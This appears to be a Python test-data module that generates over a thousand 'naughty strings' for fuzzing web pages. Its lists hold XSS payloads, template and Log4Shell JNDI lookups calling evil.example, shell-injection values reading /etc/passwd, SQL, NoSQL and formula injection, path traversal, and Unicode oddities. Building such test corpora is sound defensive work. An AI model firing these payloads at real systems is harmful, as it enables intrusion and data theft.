# ruff: noqa: E501  tables
"""Strings that break pages: 1,000 and more, made here, so that every kind stands beside its neighbours.

Most are products: every way out of a place in a page, with every thing that would run there. The others are lists by
hand. The ways come from how browsers read HTML (WHATWG HTML, 13.2: tokenization) and from OWASP's XSS prevention
cheat sheet; no list of somebody else is copied. A list of your own, a JSON file of texts, is tried as well when
NAUGHTY_STRINGS names it.
"""

import json
import os
import unicodedata
from itertools import product
from pathlib import Path

# How somebody would get out of: text, an attribute in each kind of quotes, a comment, raw text, a script, a link.
WAYS_OUT = [
    "",
    '">',
    "'>",
    '" ',
    "' ",
    "-->",
    "]]>",
    "</p>",
    "</bdi>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
]
WAYS_OUT += ["</blockquote>", "</template>", "</noscript>", "*/", "\\'", '\\"']
# What would run, load, or change the page there.
THINGS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</ScRiPt>",
    "<script src=//evil.example/x>",
    "<script/x>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=//evil.example/p.png>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><script>alert(1)</script>",
    "<math><mtext></p><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=//evil.example/x>",
    "<embed src=//evil.example/x>",
    "<link rel=stylesheet href=//evil.example/x>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><button>Go",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>go</a>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<video src=x onerror=alert(1)>",
    "<audio src=//evil.example/a autoplay>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<xss onmouseover=alert(1) style=position:fixed;inset:0>",
    "onmouseover=alert(1) x=",
    "style=background:url(//evil.example) x=",
    "autofocus onfocus=alert(1) tabindex=1 x=",
]

ENCODED = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&LT;script&GT;alert(1)&LT;/script&GT;",
    "&lt&#59;b&gt&#59;",
    "&amp;lt;b&amp;gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%253Cscript%253Ealert(1)%253C/script%253E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=alert(1)\\x3e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "＜script＞alert(1)＜/script＞",
    "‹script›alert(1)‹/script›",
    "〈img src=x onerror=alert(1)〉",
    "﹤script﹥alert(1)﹤/script﹥",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<\u200bscript>alert(1)</\u200bscript>",
    "<scr\u00adipt>alert(1)</scr\u00adipt>",
    "<ſcript>alert(1)</ſcript>",
    "<ıframe src=x>",
    "&#0;&#xD800;&#x110000;&#x80;",
    "&unknown; &amp &copy &notin; &noti;",
    "java\tscript:alert(1)",
    "java&#x0A;script:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.example",
    "https://evil.example/?<>\"'",
]

TEMPLATES = [
    "{{ 7|add:7 }}", "{% debug %}", "{% load static %}", "{# comment #}", "{{ request.META }}", "{{ settings.SECRET_KEY }}",
    "{% include 'x' %}", "{{ self.__class__ }}", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "<? echo 7 ?>", "{{constructor}}",
    "${jndi:ldap://evil.example/a}", "%(name)s", "%s%s%s%n", "{0}", "{name}", "{0.__class__.__mro__}", "{used}", "%(most)s",
    "%", "%%", "%d", "{", "}", "{{", "}}", "{%", "%}", "{#", "$(id)", "`id`", "; ls -la", "| cat /etc/passwd", "&& id", "\\",
    "../../etc/passwd", "..\\..\\win.ini", "/dev/null", "C:\\con\\con", "NUL", "file:///etc/passwd", "%2e%2e%2f", "\\\\host\\x",
]  # fmt: skip

DATABASES = [
    "' OR '1'='1", '" OR ""="', "'; DROP TABLE pledges_pledge; --", "1; SELECT pg_sleep(5)", "' UNION SELECT NULL--", "admin'--",
    "') OR ('a'='a", "\\'; --", "%' OR 1=1 --", "_%", "%_%", "'||(SELECT 1)||'", "1/**/OR/**/1=1", "0x27", "CHAR(39)", "$$x$$",
    "NEAR(a b)", "a* OR b*", '"unclosed', "a AND", "NOT", "col:x", "^a", "a & b | !c", "<->", "to_tsquery('x')", "ATTACH 'x'",
    "(*)(uid=*)", "' or count(/*)=1 or '", "[$ne]=1", "{\"$gt\": \"\"}", "=1+1", "=cmd|' /C calc'!A0", "@SUM(1)", "+1", "-1",
]  # fmt: skip

VALUES = [
    "null", "NULL", "None", "nil", "undefined", "NaN", "Infinity", "-0", "0", "1e309", "-1", "1.0", "1,000", "0x1F", "0b1", "010",
    "9223372036854775808", "1" * 100, "true", "false", "[]", "{}", "[object Object]", "__proto__", "constructor", "toString",
    "hasOwnProperty", "__class__", "<built-in>", "2026-02-30", "24:60", "99/99/9999", "\\n", "\\r\\n", "\\0", "\\u0000", "''", '""',
    "'", '"', "`", "<", ">", "&", "<>", "&&", "&#", "</", "<!", "<?", "<a", "a<b>c", "1 < 2 > 0", "I ♥ <3", "->", "=>", "/>", "--",
    "C0N", "if", "eval", "alert", "AT&T", "R&D;", "fish & chips", "¿qué?", "“quoted”", "‘x’", "«y»", "…", "–—", "№", "℡", "™",
]  # fmt: skip

BIDI = [
    chr(code)
    for code in (
        0x202A,
        0x202B,
        0x202C,
        0x202D,
        0x202E,
        0x2066,
        0x2067,
        0x2068,
        0x2069,
        0x200E,
        0x200F,
        0x061C,
    )
]
INVISIBLE = [
    0x00AD,
    0x034F,
    0x115F,
    0x1160,
    0x17B4,
    0x180E,
    0x200B,
    0x200C,
    0x200D,
    0x2028,
    0x2029,
    0x2060,
    0x2061,
    0x2064,
]
INVISIBLE += [
    0x206A,
    0x206F,
    0x3164,
    0xFE00,
    0xFE0F,
    0xFEFF,
    0xFFA0,
    0xFFF9,
    0xFFFB,
    0xFFFC,
    0xFFFD,
    0x1BCA0,
    0x1D173,
]
INVISIBLE += [0xE0001, 0xE0041, 0xE007F, 0xE0100, 0xE01EF]
CONTROLS = [*range(1, 32), *range(127, 160)]
ODD = [
    0xD7FF,
    0xE000,
    0xF8FF,
    0xFDD0,
    0xFFFE,
    0xFFFF,
    0x1FFFE,
    0x10FFFD,
    0x10FFFF,
    0x0378,
]  # private, unassigned, no characters
BLANKS = [0x0009, 0x000B, 0x000C, 0x0085, 0x00A0, 0x1680, 0x2000, 0x2007, 0x200A, 0x202F, 0x205F, 0x3000]

WRITTEN = [
    "Ångström naïve façade", "ÅÅ", "ﬁ ﬂ ﬃ ﬆ", "ß ẞ SS", "İ ı I i", "ǅ ǆ Ǆ", "ΐ ΰ ὒ", "Ω Ω K K", "ⅷ Ⅷ ½ ² ₂ ⑳ ㊿", "㍿ ㎏ ㏂ ﷺ ﷽",
    "𝐛𝐨𝐥𝐝 𝑖𝑡 𝔣𝔯𝔞𝔨 𝚖𝚘𝚗𝚘 𝟙𝟚", "ⓔⓝⓒ", "🅰🅱", "ｆｕｌｌ ｗｉｄｔｈ", "uʍop ǝpᴉsdn", "l̷i̷n̷e̷", "раураl", "ѕсоре", "аррӏе",
    "مرحبا بالعالم", "שלום עולם", "abc مرحبا def", "١٢٣ 123 ۱۲۳", "नमस्ते दुनिया", "ক্ষ", "தமிழ்", "ไทยไม่มีช่องว่าง", "ខ្មែរ", "မြန်မာ",
    "བོད་ཡིག", "ᠮᠣᠩᠭᠣᠯ", "한국어 조선말", "ᄒᆞᆫ글", "日本語ひらがなカタカナ", "ｶﾞｷﾞ", "𠮷野家", "漢字漢字漢字", "Ελληνικά", "Кириллица",
    "Հայերեն", "ქართული", "አማርኛ", "ᏣᎳᎩ", "ᚠᚢᚦ", "𓀀𓂀", "𒀀", "⠓⠑⠇⠏", "☃ ♀ ⚧ ☠", "👩‍👩‍👧‍👦", "🏳️‍🌈", "👍🏿", "🇬🇧🇪🇸🏴󠁧󠁢󠁳󠁣󠁴󠁿", "❤️❤︎", "1️⃣#️⃣",
    "(╯°□°)╯︵ ┻━┻", "¯\\_(ツ)_/¯", "ಠ_ಠ", "▓▒░█", "─│┌┐", "꧁꧂", "﷽" * 20, "W" * 110, "i" * 110, "wwwww" * 20, "文" * 100,
    "a b " * 25, "🙂" * 50, "Donau" + "dampf" * 18, "a\u0301" * 30, "!" * 100, "?!" * 40, "." * 100,
]  # fmt: skip


def zalgo(word: str, number: int, first: int) -> str:
    """Marks heaped on every letter."""
    return "".join(letter + "".join(chr(first + n % 40) for n in range(number)) for letter in word)


def made() -> list[str]:
    """All strings, each once, in a fixed order."""
    strings = [way + thing for way, thing in product(WAYS_OUT, THINGS)]
    strings += ENCODED + TEMPLATES + DATABASES + VALUES + WRITTEN
    strings += [f"abc{mark}<b>def" for mark in BIDI] + [f"{mark}evil{mark}" for mark in BIDI]
    strings += [f"no{chr(code)}body" for code in INVISIBLE + BLANKS + ODD] + [
        f"a{chr(code)}b" for code in CONTROLS
    ]
    strings += [chr(code) * 20 for code in INVISIBLE]
    strings += [
        zalgo("hello", number, first)
        for number in (1, 3, 8, 40)
        for first in (0x0300, 0x0316, 0x0483, 0x20D0)
    ]
    strings += [unicodedata.normalize(form, text) for form in ("NFD", "NFKD") for text in WRITTEN[:40]]
    return list(dict.fromkeys(strings))


STRINGS = made()
if "NAUGHTY_STRINGS" in os.environ:
    STRINGS = list(
        dict.fromkeys(STRINGS + json.loads(Path(os.environ["NAUGHTY_STRINGS"]).read_text("utf-8")))
    )
